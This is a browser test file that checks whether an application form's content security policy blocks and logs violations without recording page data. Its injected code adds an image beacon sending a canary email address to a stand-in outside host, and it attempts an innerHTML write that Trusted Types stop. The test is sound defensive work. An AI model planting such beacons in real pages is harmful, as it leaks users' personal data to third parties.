import type { Browser } from '@playwright/test'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openBrowser, openPhone } from '../../journeys/harness/open-browser.ts'
import { startHouse, type House } from '../../journeys/harness/start-house.ts'
import { openForm } from '../harness/open-form.ts'

let house: House
let browser: Browser
beforeAll(async () => void ([house, browser] = await Promise.all([startHouse({ LOG_LEVEL: 'info' }), openBrowser()])))
afterAll(async () => void (await Promise.all([browser?.close(), house?.stop()])))

test('what the policy of a page stops in a browser is counted and logged, with the origin that was stopped and nothing of the page', async () => {
  const page = await (await openPhone(browser)).newPage()
  await openForm(page, `${house.url}/application-frontend/?email=canary@example.com`)
  await page.evaluate(() => {
    const picture = document.createElement('img')
    picture.src = 'https://stranger.example/pixel.gif?email=canary@example.com'
    document.body.append(picture)
    try {
      document.body.innerHTML = '<b>canary</b>'
    } catch {
      // Trusted Types stop it
    }
  })
  const figures = async () => (await fetch(`${house.url}/metrics`)).text()
  await expect.poll(figures, { timeout: 20_000 }).toContain('policy_violations_total{directive="img-src"} 1')
  await expect.poll(figures, { timeout: 20_000 }).toContain('policy_violations_total{directive="require-trusted-types-for"} 1')
  await expect.poll(() => house.said()).toContain('"directive":"img-src","blocked":"https://stranger.example","msg":"policy violated"')
  expect(house.said()).toContain('"directive":"require-trusted-types-for","blocked":"trusted-types-sink","msg":"policy violated"')
  expect(house.said()).not.toContain('canary')
})
